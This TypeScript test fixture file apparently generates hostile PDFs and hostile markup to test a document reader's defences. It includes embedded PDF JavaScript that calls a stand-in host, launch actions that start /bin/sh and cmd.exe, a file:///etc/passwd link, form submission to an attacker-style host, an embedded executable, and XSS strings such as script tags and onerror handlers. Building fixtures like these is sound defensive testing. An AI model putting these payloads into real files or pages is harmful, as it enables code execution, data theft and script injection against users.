import { linkTo, pdf } from '../support/pdf.ts'

const SCRIPT = '/S /JavaScript /JS (app.launchURL\\("https://evil.test/js"\\); app.alert\\("hola"\\);)'

/** Actions that a PDF can start as it opens. */
const ON_ITS_OWN = [
  `/OpenAction << ${SCRIPT} >>`,
  `/AA << /WC << ${SCRIPT} >> /DP << ${SCRIPT} >> >>`,
  `/Names << /JavaScript << /Names [(evil) << ${SCRIPT} >>] >> /EmbeddedFiles << /Names [(evil.exe) 4 0 R] >> >>`,
  '/AcroForm << /Fields [] /NeedAppearances true /XFA 6 0 R >>',
].join(' ')

const XFA =
  '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform>' +
  '<draw><value><exData contentType="text/html"><body xmlns="http://www.w3.org/1999/xhtml"><p>XFA</p><img src="https://evil.test/xfa.png"/></body>' +
  '</exData></value></draw></subform></template></xdp:xdp>'

/** Links of a hostile PDF, from the top of the page down; only the first leads anywhere, and only if its reader agrees. */
export const LINKS = [
  '/S /URI /URI (https://example.test/libro?de=luna)',
  '/S /URI /URI (javascript:alert\\(1\\))',
  '/S /URI /URI (file:///etc/passwd)',
  '/S /URI /URI (cosmia://auth/confirm)',
  '/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >>',
  '/S /GoToR /F (https://evil.test/other.pdf) /D [0 /Fit]',
  `${SCRIPT}`,
  '/S /SubmitForm /F (https://evil.test/form)',
  '/S /GoToE /T << /R /C /N (evil.exe) >> /D [0 /Fit]',
]

/** Asks, by every way there is, for a script to be run, a program to be started, a file to be taken out, a page to be loaded. */
export const hostilePdf = (): Buffer =>
  pdf(
    [
      {
        lines: ['Un cuento inocente'],
        annotations: [
          ...LINKS.map((action, index) => linkTo(action, 700 - index * 40)),
          '<< /Type /Annot /Subtype /FileAttachment /Rect [420 700 450 730] /FS 4 0 R /Contents (evil) >>',
          `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (b) /Rect [420 640 520 670] /AA << /Fo << ${SCRIPT} >> /K << ${SCRIPT} >> >> >>`,
          `<< /Type /Annot /Subtype /Screen /Rect [420 600 520 630] /A << ${SCRIPT} >> /AA << /PO << ${SCRIPT} >> >> >>`,
        ],
      },
    ],
    {
      catalog: ON_ITS_OWN,
      objects: [
        '<< /Type /Filespec /F (evil.exe) /EF << /F 5 0 R >> >>',
        '<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ..\nendstream',
        `<< /Length ${XFA.length} >>\nstream\n${XFA}\nendstream`,
      ],
    },
  )

const KEY = 'ab'.repeat(32)

/** Asks for a password. */
export const encryptedPdf = (): Buffer =>
  pdf([{ lines: ['Secreto'] }], {
    trailer: `/Encrypt << /Filter /Standard /V 1 /R 2 /O <${KEY}> /U <${KEY}> /P -4 >> /ID [<${KEY}> <${KEY}>]`,
  })

export const brokenPdf = (): Buffer => Buffer.from(`%PDF-1.7\n${'basura '.repeat(400)}`)

/** Markup, and what may be taken for an order. */
export const HOSTILE_TEXT = [
  '<script>parent.postMessage("evil", "*"); window.evil = true</script>',
  '<img src=x onerror="window.evil = true"><svg onload="window.evil = true">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '<style>body { display: none }</style> javascript:alert(1) &lt;b&gt;',
].join('\n')
